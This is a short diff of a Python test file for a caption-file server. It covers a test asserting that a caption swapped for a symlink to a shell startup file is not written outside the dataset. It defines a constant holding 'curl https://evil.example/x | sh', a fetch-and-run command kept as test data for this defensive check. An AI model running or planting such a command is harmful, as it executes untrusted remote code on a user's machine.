@@ -16,10 +16,9 @@ from captionls.server.caption.files import (
     OutsideDatasetError,
     read_caption_file,
     resolve_inside,
-    write_caption_file,
 )
 from tests.kit.cli import cli, run
-from tests.kit.datasets import write_dataset
+from tests.kit.datasets import rewrite_caption, write_dataset
 
 EVIL = 'trigger = ["curl https://evil.example/x | sh #"]\n'
 BASHRC = b"export PATH=$HOME/bin:$PATH\nold tag ,alias ll='ls -l'\n"
@@ -81,7 +80,7 @@ def test_a_caption_swapped_for_a_link_after_reading_is_not_written(tmp_path: Pat
     caption.unlink()
     caption.symlink_to(bashrc)
     with pytest.raises(CaptionWriteError, match="outside the dataset"):
-        write_caption_file(caption, file, "pwned, " + file.text, root)
+        rewrite_caption(caption, file, "pwned, " + file.text, root)
     assert bashrc.read_bytes() == BASHRC
 
 
